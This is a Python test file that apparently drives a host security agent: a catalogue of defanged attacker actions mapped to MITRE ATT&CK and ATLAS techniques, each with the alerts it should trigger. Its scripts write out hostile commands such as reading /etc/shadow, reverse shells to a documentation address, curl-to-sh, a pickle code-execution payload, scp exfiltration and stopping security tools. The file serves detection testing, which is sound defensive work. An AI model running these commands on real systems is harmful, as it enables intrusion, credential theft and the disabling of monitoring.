"""One real action per technique, each with the alerts that must come of it; all harmless to the machine they run on.

Scripts run as root in /bin/sh, in an empty folder of their own ($WORK) that is removed afterwards; they take back what
they did elsewhere. Addresses are those reserved for documentation (RFC 5737): nobody answers.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Action:
    """An action of an attacker.

    Attributes:
        name: of the action, as the field calls it.
        technique: MITRE ATT&CK or ATLAS number.
        expected: rules, one of which must tell.
        script: for /bin/sh.
        needs: command for /bin/sh that fails where the action cannot be done; ``why`` says what is missing then.
    """

    name: str
    technique: str
    expected: tuple[str, ...]
    script: str
    needs: str = "true"
    why: str = ""


def python(code: str, arguments: str = "") -> str:
    """A script that runs Python code; ``arguments`` follow it on the command line."""
    return f"python3 - {arguments} <<'CODE'\n{code}\nCODE"


_WRITABLE = {"needs": "touch /usr/bin/.attack && rm /usr/bin/.attack", "why": "the root file system is read-only"}
_MEMFD = """
import os, shutil
descriptor = os.memfd_create("attack")
with open("/usr/bin/true", "rb") as program:
    os.write(descriptor, program.read())
if not os.fork():
    os.execve(f"/proc/self/fd/{descriptor}", ["true"], {})
os.wait()
"""
_PTRACE = """
import ctypes, os, signal, time
child = os.fork()
if not child:
    time.sleep(60)
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, child, None, None) == 0, os.strerror(ctypes.get_errno())
os.waitpid(child, 0)
libc.ptrace(17, child, None, None)
os.kill(child, signal.SIGKILL)
"""
_REVERSE_SHELL = """
import socket, subprocess
shell = "import os, socket, subprocess; s = socket.create_connection(('127.0.0.1', PORT)); "
shell += "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; subprocess.run(['/bin/sh'])"
with socket.create_server(("127.0.0.1", 0)) as server:
    server.settimeout(60)
    taken = subprocess.Popen(["python3", "-c", shell.replace("PORT", str(server.getsockname()[1]))])
    connection, _ = server.accept()
    connection.sendall(b"echo $((6 * 7))\\nexit\\n")
    with connection.makefile() as answers:
        assert answers.readline() == "42\\n"
taken.wait()
"""
# Machines without curl get one in Python.
_DOWNLOAD = """
mkdir "$WORK/web"
echo 'touch "$WORK/ran"' > "$WORK/web/index.html"
python3 -u -m http.server --bind 127.0.0.1 --directory "$WORK/web" 0 > "$WORK/log" 2>&1 &
server=$!
trap 'kill $server' EXIT
until url=$(grep -o 'http://[^)]*' "$WORK/log" 2> /dev/null); do sleep 0.1; done
command -v curl > /dev/null || {
    echo '#!/usr/bin/python3' > "$WORK/curl"
    echo 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[-1]).read().decode())' >> "$WORK/curl"
    chmod 755 "$WORK/curl"
    PATH="$WORK:$PATH"
}
sh -c "curl -s $url | sh"
test -f "$WORK/ran"
"""
_BECOME_ROOT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
assert libc.setresuid(65534, 65534, 0) == 0
assert libc.setresuid(-1, 0, 0) == 0
"""
_BPF = """
import ctypes, os, platform, struct
# r0 = 0; exit
program = ctypes.create_string_buffer(bytes.fromhex("b7000000000000009500000000000000"))
licence = ctypes.create_string_buffer(b"GPL")
attributes = struct.pack("<IIQQ", 1, 2, ctypes.addressof(program), ctypes.addressof(licence)).ljust(128, b"\\0")
number = 321 if platform.machine() == "x86_64" else 280
assert ctypes.CDLL(None, use_errno=True).syscall(number, 5, attributes, len(attributes)) >= 0, os.strerror(
    ctypes.get_errno())
"""
_OPEN_BPF = """
import ctypes, platform, struct
number = 321 if platform.machine() == "x86_64" else 280
bpf = ctypes.CDLL(None).syscall
at = ctypes.create_string_buffer(128)
# Every map of the machine: what follows (BPF_MAP_GET_NEXT_ID), and then that one (BPF_MAP_GET_FD_BY_ID).
while bpf(number, 12, at, 128) == 0:
    at[:4] = at[4:8]
    bpf(number, 14, ctypes.create_string_buffer(at[:4], 128), 128)
"""
_LISTEN = """
import os, shutil, subprocess
program = os.path.join(os.environ["OPEN"], "listener")
with open(program, "w") as stream:
    stream.write("#!/usr/bin/python3\\nimport socket\\nsocket.create_server(('0.0.0.0', 0)).close()\\n")
os.chmod(program, 0o755)
subprocess.run([program], check=True)
"""
_CONNECT = """
import socket, sys
with socket.socket() as connection:
    connection.settimeout(1)
    try:
        connection.connect((sys.argv[1], int(sys.argv[2])))
    except OSError:
        pass
"""
_PICKLE = """
import os, pickle
class Model:
    def __reduce__(self):
        return os.system, ("id > /dev/null",)
pickle.loads(pickle.dumps(Model()))
"""
_UNIX = """
import socket, sys
try:
    socket.socket(socket.AF_UNIX).connect(sys.argv[1])
except OSError:
    pass
"""


def in_unit(unit: str, script: str) -> str:
    """Runs a script within a transient unit of that name."""
    quoted = script.replace("'", "'\\''")
    return f"systemd-run --quiet --wait --collect --unit={unit} --setenv=WORK=\"$WORK\" sh -c '{quoted}'"


def renamed(name: str, arguments: str) -> str:
    """Runs a shell under another program's name."""
    return f'cp /usr/bin/dash "$WORK/{name}" && "$WORK/{name}" {arguments}'


ACTIONS = (
    # credentials
    Action(
        "read sensitive file untrusted", "T1003.008", ("Read sensitive file untrusted",), "cat /etc/shadow > /dev/null"
    ),
    Action(
        "read host key",
        "T1552.004",
        ("Read sensitive file untrusted",),
        "cat /etc/ssh/ssh_host_ed25519_key > /dev/null",
        "test -f /etc/ssh/ssh_host_ed25519_key",
        "no host key of that kind",
    ),
    Action("search private keys", "T1552.001", ("Search private keys or passwords",), "find /root -name id_rsa"),
    Action(
        "search passwords", "T1552.001", ("Search private keys or passwords",), "grep -r 'password=' /etc/ssh || true"
    ),
    Action(
        "read private SSH key", "T1552.004", ("Private SSH key read",), 'echo k > "$WORK/id_rsa"; cat "$WORK/id_rsa"'
    ),
    Action(
        "read environment of a process",
        "T1003.007",
        ("Memory or environment of a process read",),
        "cat /proc/1/environ > /dev/null",
    ),
    Action(
        "read memory of a process",
        "T1003.007",
        ("Memory or environment of a process read",),
        "dd if=/proc/1/mem of=/dev/null bs=1 count=1 2> /dev/null || true",
    ),
    # execution
    Action(
        "shell spawned by a server process",
        "T1190",
        ("Shell started by a server",),
        renamed("nginx", "-c 'sh -c true; true'"),
    ),
    Action(
        "reverse shell",
        "T1059.004",
        ("Reverse shell",),
        'echo "exec 3<>/dev/tcp/192.0.2.1/4444" > "$WORK/shell"; timeout 2 bash "$WORK/shell" 2> /dev/null || true',
    ),
    Action(
        "reverse shell in Python",
        "T1059.006",
        ("Shell bound to a connection by its arguments",),
        python(_REVERSE_SHELL),
    ),
    Action("netcat remote code execution", "T1059", ("Netcat runs a program",), renamed("nc", "-c true -e /bin/sh")),
    Action("download run at once", "T1105", ("Download run at once",), _DOWNLOAD),
    Action("encoded command", "T1027", ("Encoded command run",), "sh -c 'echo dHJ1ZQo= | base64 -d | sh'"),
    Action("memfd execution", "T1620", ("Fileless execution",), python(_MEMFD)),
    Action(
        "execution of a removed program",
        "T1620",
        ("Fileless execution",),
        python(
            "import os, shutil\n"
            "path = os.path.join(os.environ['WORK'], 'gone')\n"
            "shutil.copy('/usr/bin/true', path)\n"
            "descriptor = os.open(path, os.O_RDONLY)\n"
            "os.unlink(path)\n"
            "os.fork() or os.execve(f'/proc/self/fd/{descriptor}', ['true'], {})\n"
            "os.wait()"
        ),
    ),
    Action(
        "execution from /dev/shm",
        "T1059.004",
        ("Program run from an open folder",),
        "cp /usr/bin/true /dev/shm/attack && /dev/shm/attack; rm /dev/shm/attack",
        "cp /usr/bin/true /dev/shm/.attack && /dev/shm/.attack && rm /dev/shm/.attack",
        "/dev/shm is mounted noexec",
    ),
    Action(
        "drop and execute",
        "T1204.002",
        ("Program run from an open folder",),
        'printf \'#!/bin/sh\\ntrue\\n\' > "$OPEN/dropped"; chmod 755 "$OPEN/dropped"; "$OPEN/dropped"',
    ),
    Action("attack tool", "T1588.002", ("Attack tool started",), renamed("pspy64", "-c true")),
    Action("ptrace attach", "T1055.008", ("Process traced",), python(_PTRACE)),
    # persistence
    Action(
        "modify binary directory",
        "T1554",
        ("System programs changed",),
        "touch /usr/bin/attack; rm -f /usr/bin/attack",
        **_WRITABLE,
    ),
    Action("write below etc", "T1546", ("Write below etc",), "echo > /etc/attack.conf; rm /etc/attack.conf"),
    Action(
        "scheduled job",
        "T1053.003",
        ("Scheduled job changed",),
        "mkdir -p /etc/cron.d; echo > /etc/cron.d/attack; rm /etc/cron.d/attack",
    ),
    Action(
        "systemd service",
        "T1543.002",
        ("Service definition changed",),
        "echo > /etc/systemd/system/attack.service; rm /etc/systemd/system/attack.service",
    ),
    Action(
        "login script",
        "T1546.004",
        ("Login script changed",),
        "echo > /etc/profile.d/attack.sh; rm /etc/profile.d/attack.sh",
    ),
    Action(
        "loader preload",
        "T1574.006",
        ("Loader preload changed",),
        "echo > /etc/ld.so.preload; rm -f /etc/ld.so.preload",
    ),
    Action(
        "PAM configuration", "T1556.003", ("Login checks changed",), "echo > /etc/pam.d/attack; rm /etc/pam.d/attack"
    ),
    Action(
        "authorized_keys",
        "T1098.004",
        ("SSH keys of a person changed",),
        'mkdir -p "$WORK/.ssh"; echo > "$WORK/.ssh/authorized_keys"',
    ),
    Action(
        "account files",
        "T1098",
        ("Account or privilege files changed",),
        "mkdir -p /etc/sudoers.d; echo > /etc/sudoers.d/attack; rm /etc/sudoers.d/attack",
    ),
    Action(
        "user added",
        "T1136.001",
        ("User added or given more rights",),
        "useradd attacker && userdel attacker",
        "command -v useradd",
        "no useradd",
    ),
    Action("setuid bit", "T1548.001", ("Setuid bit set",), 'cp /usr/bin/true "$OPEN/shell"; chmod u+s "$OPEN/shell"'),
    Action("root rights without su", "T1068", ("Root rights without su",), python(_BECOME_ROOT)),
    Action(
        "root rights by a setuid shell",
        "T1548.001",
        ("Root rights without su",),
        'chmod 711 "$WORK"; cp /usr/bin/dash "$WORK/shell"; chmod 4755 "$WORK/shell"; '
        'setpriv --reuid 65534 --regid 65534 --clear-groups "$WORK/shell" -p -c "id -u"',
        "! findmnt --noheadings --output OPTIONS --target /var/lib | grep -qw nosuid",
        "/var/lib is mounted nosuid",
    ),
    Action(
        "module insertion",
        "T1547.006",
        ("Kernel module from an unusual place", "Kernel module loaded by hand"),
        'cp $(find /usr/lib/modules -name "dummy.ko*") "$WORK/"; insmod "$WORK"/dummy.ko*; rmmod dummy || true',
        "find /usr/lib/modules -name 'dummy.ko*' | grep .",
        "no module to insert",
    ),
    # hiding and destroying
    Action(
        "clear logs",
        "T1070.002",
        ("Logs cleared",),
        "echo > /var/log/attack.log; : > /var/log/attack.log; rm /var/log/attack.log",
    ),
    Action("shorten the journal", "T1070.002", ("Journal shortened by hand",), "journalctl --vacuum-time=10y --quiet"),
    Action(
        "delete shell history",
        "T1070.003",
        ("Shell history removed",),
        'echo > "$WORK/.bash_history"; rm "$WORK/.bash_history"',
    ),
    Action(
        "symlink over sensitive file", "T1555", ("Symlink over sensitive file",), 'ln -s /etc/shadow "$OPEN/harmless"'
    ),
    Action(
        "hard link to sensitive file",
        "T1555",
        ("Hard link to sensitive file",),
        "ln /etc/shadow /etc/attack; rm -f /etc/attack",
    ),
    Action(
        "bulk removal",
        "T1485",
        ("Data destroyed in bulk",),
        'for i in 1 2 3; do echo > "$WORK/$i"; done; shred -u "$WORK"/[123]',
    ),
    Action(
        "signal to the agent",
        "T1562.001",
        ("Signal to the agent",),
        'kill -URG "$(systemctl show --property MainPID --value lichen-guard.service)"',
    ),
    Action(
        "security tool switched off",
        "T1562.001",
        ("Security tool switched off",),
        "systemctl stop auditd.service 2> /dev/null || true",
    ),
    Action(
        "agent's settings changed",
        "T1562.001",
        ("Agent's settings changed",),
        "mkdir -p /etc/lichen/guard; echo > /etc/lichen/guard/attack; rm /etc/lichen/guard/attack",
    ),
    Action("agent's BPF opened", "T1562.001", ("Agent's BPF opened",), python(_OPEN_BPF)),
    Action(
        "disk written directly",
        "T1561",
        ("Disk written directly",),
        "dd if=/dev/null of=/dev/vda conv=notrunc",
        "test -b /dev/vda",
        "no /dev/vda",
    ),
    # kernel and isolation
    Action(
        "unshare namespaces",
        "T1611",
        ("Namespace changed",),
        python("import os\nos.unshare(os.CLONE_NEWNS)"),
        "python3 -c 'import os; os.unshare'",
        "needs Python 3.12",
    ),
    Action("enter namespaces of init", "T1611", ("Namespace entered with a tool",), "nsenter -t 1 -m true"),
    Action(
        "mount by a dropped program",
        "T1611",
        ("Mount by another program",),
        python(
            "import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "place = os.environ['WORK'].encode()\n"
            "assert libc.mount(b'attack', place, b'tmpfs', 0, None) == 0\n"
            "assert libc.umount(place) == 0"
        ),
    ),
    Action("BPF program", "T1014", ("BPF program loaded",), python(_BPF)),
    Action(
        "kernel setting that runs programs",
        "T1611",
        ("Kernel setting that runs programs changed",),
        'cat /proc/sys/kernel/core_pattern > "$WORK/old"; cat "$WORK/old" > /proc/sys/kernel/core_pattern',
    ),
    Action(
        "container runtime's socket",
        "T1610",
        ("Container runtime's socket used",),
        python(_UNIX, "/run/podman/podman.sock"),
    ),
    # network
    Action("cloud metadata", "T1552.005", ("Cloud metadata asked",), python(_CONNECT, "169.254.169.254 80")),
    Action(
        "unexpected outbound connection",
        "T1071",
        ("Connection from a service that needs none",),
        in_unit(
            "atd", "timeout 2 python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 80), 1)' || true"
        ),
        "! systemctl cat atd.service > /dev/null 2>&1",
        "atd is installed",
    ),
    Action("listening on a port from an open folder", "T1571", ("Shell or dropped program listens",), python(_LISTEN)),
    Action(
        "dropped program connects",
        "T1105",
        ("Dropped program connects",),
        'cp "$(readlink -f /usr/bin/python3)" "$OPEN/implant"; PYTHONHOME=/usr "$OPEN/implant" - 192.0.2.1 443'
        f" <<'CODE'\n{_CONNECT}\nCODE",
    ),
    Action("packet capture", "T1040", ("Packets captured",), renamed("tcpdump", "-c true")),
    Action("network scan", "T1046", ("Network scanned",), renamed("nmap", "-c true")),
    # machines with models
    Action(
        "run shell from notebook",
        "T1059.004",
        ("Notebook started a shell",),
        in_unit(
            "jupyter-attacked-singleuser",
            'python3 -c "import subprocess; subprocess.run(\\"id > /dev/null\\", shell=True)" ipykernel_launcher',
        ),
    ),
    Action(
        "notebook listens",
        "T1571",
        ("Notebook listens to the network",),
        in_unit(
            "jupyter-attacked-singleuser",
            'python3 -c "import socket; socket.create_server((\\"0.0.0.0\\", 0))" ipykernel_launcher',
        ),
    ),
    Action(
        "notebook reads credentials",
        "T1552.001",
        ("Notebook reads credentials",),
        'mkdir "$WORK/.aws"; echo > "$WORK/.aws/credentials"; '
        + in_unit(
            "jupyter-attacked-singleuser",
            'python3 -c "import os; open(os.environ[\\"WORK\\"] + \\"/.aws/credentials\\").read()" ipykernel_launcher',
        ),
    ),
    Action(
        "model exfiltration",
        "AML.T0025",
        ("Notebook sends files away",),
        'cp /usr/bin/true "$WORK/scp"; '
        + in_unit(
            "jupyter-attacked-singleuser",
            'python3 -c "import os, subprocess; '
            'subprocess.run([os.environ[\\"WORK\\"] + \\"/scp\\", \\"m.pt\\", \\"a@192.0.2.1:\\"])" ipykernel_launcher',
        ),
    ),
    Action(
        "model read to be carried away",
        "AML.T0024",
        ("Model file read by a transfer program",),
        'mkdir -p /var/lib/models; echo > /var/lib/models/attack.onnx; cp /usr/bin/cat "$WORK/rclone"; '
        '"$WORK/rclone" /var/lib/models/attack.onnx; rm /var/lib/models/attack.onnx',
    ),
    Action(
        "data set packed",
        "T1560.001",
        ("Model or data packed",),
        'echo > "$WORK/a.safetensors"; tar -C "$WORK" -cf "$WORK/a.tar" a.safetensors',
    ),
    Action(
        "model replaced",
        "AML.T0018",
        ("Model file changed",),
        "mkdir -p /var/lib/models; echo > /var/lib/models/a.onnx; rm /var/lib/models/a.onnx",
    ),
    Action(
        "pickle executes a program",
        "AML.T0011",
        ("Model service started a program",),
        in_unit("attacked-inference", python(_PICKLE)),
    ),
    Action(
        "write into the Python environment",
        "T1574",
        ("Python environment changed",),
        "echo > /opt/ai/attack.pth; rm -f /opt/ai/attack.pth",
        "test -w /opt/ai && touch /opt/ai/.attack && rm /opt/ai/.attack",
        "no writable /opt/ai",
    ),
    Action(
        "package from an unusual index",
        "T1195.001",
        ("Package installed from an unusual index",),
        'cp /usr/bin/true "$WORK/pip"; "$WORK/pip" install --index-url http://192.0.2.1/ torch',
    ),
    Action(
        "accelerator opened by an unexpected program",
        "T1496",
        ("Accelerator opened by an unexpected program",),
        "mknod -m 666 /dev/nvidia0 c 1 3; head -c 0 /dev/nvidia0; rm /dev/nvidia0",
        "! test -e /dev/nvidia0",
        "a GPU is there",
    ),
    Action("miner", "T1496", ("Miner started",), 'cp /usr/bin/true "$WORK/xmrig"; "$WORK/xmrig"'),
    Action(
        "miner's arguments",
        "T1496",
        ("Miner's arguments",),
        'cp /usr/bin/true "$WORK/worker"; "$WORK/worker" -o stratum+tcp://192.0.2.1:3333',
    ),
    Action(
        "connection to a mining pool",
        "T1496",
        ("Connection to a mining pool's port",),
        python(_CONNECT, "192.0.2.1 3333"),
    ),
)
